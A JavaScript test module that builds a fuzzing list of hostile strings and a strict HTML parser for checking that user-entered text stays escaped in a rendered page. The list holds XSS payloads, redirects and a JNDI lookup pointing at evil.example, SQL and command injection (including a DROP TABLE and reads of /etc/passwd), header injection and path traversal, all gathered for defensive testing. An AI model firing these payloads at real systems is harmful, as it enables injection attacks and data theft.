// What strangers write into fields that somebody else reads: strings made by rule, and a look at the
// skeleton of a page that holds them.

const product = (...lists) =>
  lists.reduce((all, list) => all.flatMap((head) => list.map((item) => [...head, item])), [[]]);

/** Ways out of where a text stands in a page. */
const WAYS_OUT = [
  "", '"', "'", '">', "'>", "`", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</bdi>",
  "\\", "\\\"", "%22%3e", "&quot;&gt;", "\u2028", "\0",
];
/** What then runs, loads, or takes over. Every script of them marks the page. */
const PAYLOADS = [
  "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>",
  "<svg><script>window.pwned=1</script></svg>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
  "<body onload=window.pwned=1>", "<details open ontoggle=window.pwned=1>", "<input autofocus onfocus=window.pwned=1>",
  "<a href=javascript:window.pwned=1>x</a>", "<form action=//evil.example><button>Sign out</button></form>",
  "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<object data=//evil.example>",
  "<embed src=//evil.example>", "<math><mtext></mtext><script>window.pwned=1</script></math>",
  "<template><script>window.pwned=1</script></template>", "<!--", "<![CDATA[", "<plaintext>", "<noscript><p title=x>",
  " onmouseover=window.pwned=1 x=", " autofocus onfocus=window.pwned=1 x=", "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
];
const ADDRESSES = product(
  ["javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1", " javascript:window.pwned=1", "data:text/html,<script>1</script>", "vbscript:x", "//evil.example", "/\\evil.example", "https://evil.example"],
  ["", "//", "%0a", "?\r\n"],
).map((parts) => parts.join(""));
const LINES = product(["\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u0085", "\u560d\u560a"], ["Set-Cookie: __Host-session=x", "Hallpass-Subject: admin", "{\"at\":\"decision\"}"])
  .map(([end, line]) => `x${end}${line}`);
const OTHERS = [
  "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{% x %}", "[[x]]", "${jndi:ldap://evil.example/x}", "%s%n%x", "%p%d",
  "' OR 1=1 --", "'; DROP TABLE sessions; --", "\" or \"\"=\"", "1;exec xp_cmdshell", "`id`", "$(id)", "; cat /etc/passwd", "| id", "../../etc/passwd",
  "..\\..\\x", "/dev/null", "file:///etc/passwd", "CON", "NUL", "aux.txt", "null", "undefined", "NaN", "true", "0", "-1", "1e309", "9007199254740993",
  "", " ", "\t", "constructor", "__proto__", "toString", "hasOwnProperty", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;", "&", "&nbsp;", "&#0;", "&#xd800;",
  "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-", "\u00bcscript\u00be", "＜script＞", "﹤script﹥", "\u02bascript", "<\0script>",
  "𝕋𝕙𝕖", "ₜₕₑ", "T\u0336h\u0336e", "H\u0300\u0301\u0302\u0303".repeat(40), "\u0e49".repeat(100), "a\u0345".repeat(50), "👩‍👩‍👧‍👦".repeat(20), "🏳0🌈️", "🇺🇸🇷🇺🇸", "田中さん", "사회과학원", "فايرفوكس", "‫عربي‬ abc", "ﷺ".repeat(40), "𒐫".repeat(20), "Ⱥ Ⱦ", "ı İ ſ K",
  "A".repeat(81), "A".repeat(10_000), "W ".repeat(5000), "<".repeat(2000), "\"".repeat(2000), "&".repeat(2000),
  "Loading…", "Sign out", "This device", "Active now", "just now",
];
const MARKS = [
  ...Array.from({ length: 0x20 }, (_, code) => String.fromCharCode(code)),
  ...Array.from({ length: 0x21 }, (_, code) => String.fromCharCode(0x7f + code)),
  ..."\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2061\u2066\u2067\u2068\u2069\u206f\ufeff\ufff9\ufffb\ufffc\ufffd\uffff",
  "\u{e0001}", "\u{e007f}", "\u{1d173}", "\u{10ffff}",
].map((mark) => `a${mark}b`);

/** Every string once. */
export const HOSTILE = [
  ...new Set([...product(WAYS_OUT, PAYLOADS).map((parts) => parts.join("")), ...ADDRESSES, ...LINES, ...OTHERS, ...MARKS]),
];

/**
 * The elements of a page with the names of their attributes, as written: text and values are left
 * out. Fails at whatever well-formed HTML of ours does not have, so that nothing hides in between.
 *
 * @param {string} html
 * @returns {string[]}
 */
export function skeletonOf(html) {
  const TAG = /<(?:!DOCTYPE html|\/([a-z0-9]+)|([a-z0-9]+)((?: [a-zA-Z-]+(?:="[^"<>]*")?)*))\/?>/y;
  const TEXT = /[^<>]+/y;
  const tags = [];
  for (let at = 0; at < html.length;) {
    const pattern = html[at] === "<" ? TAG : TEXT;
    pattern.lastIndex = at;
    const match = pattern.exec(html);
    if (!match) throw new Error(`not well formed: ${JSON.stringify(html.slice(Math.max(0, at - 60), at + 60))}`);
    at = pattern.lastIndex;
    if (pattern === TEXT) assertPlain(match[0]);
    else tags.push(skeletonOfTag(match));
  }
  return tags;
}

function skeletonOfTag([whole, closed, opened, attributes]) {
  if (closed) return `/${closed}`;
  if (!opened) return whole;
  const names = [...attributes.matchAll(/ ([a-zA-Z-]+)(?:="([^"]*)")?/g)];
  for (const [, , value] of names) assertEscaped(value ?? "");
  return [opened, ...names.map(([, name]) => name)].join(" ");
}

function assertEscaped(text) {
  const bare = /&(?!(?:amp|lt|gt|quot);)/.exec(text);
  if (bare) throw new Error(`an ampersand by itself: ${JSON.stringify(text.slice(bare.index, bare.index + 40))}`);
}

/** Escaped text in which nothing turns or hides what stands around it. */
function assertPlain(text) {
  assertEscaped(text);
  const marks = /[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.exec(text);
  if (marks) throw new Error(`a mark that turns or hides: ${JSON.stringify(text.slice(0, 80))}`);
}
